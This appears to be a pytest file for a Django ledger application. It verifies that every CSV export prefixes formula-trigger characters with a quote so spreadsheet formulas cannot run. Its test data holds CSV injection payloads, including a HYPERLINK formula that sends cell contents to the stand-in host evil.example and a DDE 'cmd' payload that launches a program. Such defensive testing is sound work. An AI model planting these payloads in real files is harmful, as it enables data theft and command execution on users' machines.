"""Every CSV export neutralises spreadsheet formulas in text cells and keeps amounts plain numbers."""

import csv
import io
from datetime import timedelta
from decimal import Decimal, InvalidOperation

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from ledger import services
from ledger.finance.csv import spreadsheet_cell
from tests.api.helpers import token_client
from tests.factories import UserFactory, make_org, make_subaccount

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
HOSTILE = {
    "org": '=HYPERLINK("https://evil.example/?q="&A1,"click")',
    "subaccount": "@SUM(1)",
    "purchase_order": "+1+1",
    "grant_comment": "  =1+1",
    "actor": "-2+3",
    "reference": "\t=cmd|' /C calc'!A0",
    "category": "=category",
    "removal_comment": "\r\n@evil",
}


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(1)", "'@SUM(1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("\n=1", "'\n=1"), ("＝1+1", "'＝1+1"), ("plain", "plain"),
    ("a=b", "a=b"), ("", ""), (Decimal("-2.5"), Decimal("-2.5")), (-3, -3), (None, None),
])
def test_spreadsheet_cell(value, expected):
    assert spreadsheet_cell(value) == expected


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except InvalidOperation:
        return False
    return True


def _csv_exports() -> set[str]:
    """Names of every URL of the project that serves a CSV (named `*_csv`)."""
    names = set()

    def walk(patterns, namespace=""):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace)
            elif isinstance(pattern, URLPattern) and pattern.name and pattern.name.endswith("_csv"):
                names.add(namespace + pattern.name)

    walk(get_resolver().url_patterns)
    return names


@pytest.fixture
def hostile_org(db):
    """An org whose free-text fields are formulas: names, purchase order, comments, actor, reference, category."""
    org = make_org(name=HOSTILE["org"])
    owner = UserFactory(username="owner")
    shared = make_subaccount(org, name=HOSTILE["subaccount"], balance_mode="shared", owner=owner)
    master = org.master_account
    services.credits_grant(actor=services.SYSTEM, account=master, amount="100", purchase_order=HOSTILE["purchase_order"],
                           comment=HOSTILE["grant_comment"])
    services.charge_create(actor=services.Actor(service=HOSTILE["actor"]), account=shared, channel="sms", quantity=2,
                           unit_price="1.5", reference=HOSTILE["reference"], category=HOSTILE["category"])
    services.credits_remove(actor=services.SYSTEM, account=master, amount="3", comment=HOSTILE["removal_comment"])
    return org, shared, owner


def _download(client, url) -> list[list[str]]:
    response = client.get(url)
    assert response.status_code == 200, url
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_every_csv_export_neutralises_formulas(client, hostile_org):
    org, shared, owner = hostile_org
    master = org.master_account
    granted = timezone.now() - timedelta(days=45)  # a lot with a hostile PO that has expired: the expiry report
    services.credits_grant(actor=services.SYSTEM, account=master, amount="5", expires_in="1M",
                           purchase_order=HOSTILE["purchase_order"], at=granted)
    services.lots_expire()
    superuser = UserFactory(username="root", is_superuser=True)
    api = token_client(["read"], name="exporter")
    exports = {
        "finance:org_ledger_csv": (superuser, reverse("finance:org_ledger_csv", args=[org.pk])),
        "finance:account_ledger_csv": (superuser, reverse("finance:account_ledger_csv", args=[master.pk])),
        "finance:my_account_ledger_csv": (owner, reverse("finance:my_account_ledger_csv", args=[shared.pk])),
        "finance:usage_csv": (superuser, reverse("finance:usage_csv", args=[org.pk])),
        "finance:topups_csv": (superuser, reverse("finance:topups_csv", args=[org.pk])),
        "finance:activity_csv": (superuser, reverse("finance:activity_csv", args=[org.pk])),
        "finance:usage_overview_csv": (superuser, reverse("finance:usage_overview_csv") + f"?currency={org.currency}"),
        "finance:expired_credits_csv": (superuser, reverse("finance:expired_credits_csv")),
    }
    assert set(exports) == _csv_exports(), "a new CSV export needs a case here"
    downloads = {}
    for name, (user, url) in exports.items():
        client.force_login(user)
        downloads[name] = _download(client, url)
    downloads["api ledger"] = _download(api, f"/api/v1/accounts/{master.pk}/ledger?format=csv")

    for name, rows in downloads.items():
        assert len(rows) > 1, name
        for row in rows[1:]:
            for cell in row:
                if cell.lstrip(" \n")[:1] in TRIGGERS:
                    assert _is_number(cell), f"{name}: formula cell {cell!r}"
    seen = {cell for rows in downloads.values() for row in rows for cell in row}
    for value in HOSTILE.values():
        if value is not HOSTILE["org"]:
            assert "'" + value in seen, value  # kept verbatim after the quote


def test_amounts_stay_plain_numbers(client, hostile_org):
    org, shared, owner = hostile_org
    api = token_client(["read"], name="exporter")
    rows = list(csv.DictReader(io.StringIO(b"".join(
        api.get(f"/api/v1/accounts/{org.master_account.pk}/ledger?format=csv").streaming_content).decode())))
    assert [(row["kind"], row["amount"], row["balance_after"]) for row in rows] == [
        ("removal", "-3.000000", "94.000000"), ("charge", "-3.000000", "97.000000"),
        ("grant", "100.000000", "100.000000")]
    assert rows[1]["reference"] == "'" + HOSTILE["reference"] and rows[1]["unit_price"] == "1.500000"
    assert rows[1]["actor"] == "'-2+3" and rows[1]["category"] == "'=category"
    client.force_login(UserFactory(username="root", is_superuser=True))
    usage = list(csv.DictReader(io.StringIO(b"".join(
        client.get(reverse("finance:usage_csv", args=[org.pk])).streaming_content).decode())))
    assert [(row["subaccount"], row["amount"]) for row in usage] == [("'@SUM(1)", "3.000000")]
    topups = list(csv.DictReader(io.StringIO(b"".join(
        client.get(reverse("finance:topups_csv", args=[org.pk])).streaming_content).decode())))
    assert [(row["amount"], row["purchase_order"], row["comment"]) for row in topups] == [
        ("-3.000000", "", "'\r\n@evil"), ("100.000000", "'+1+1", "'  =1+1")]
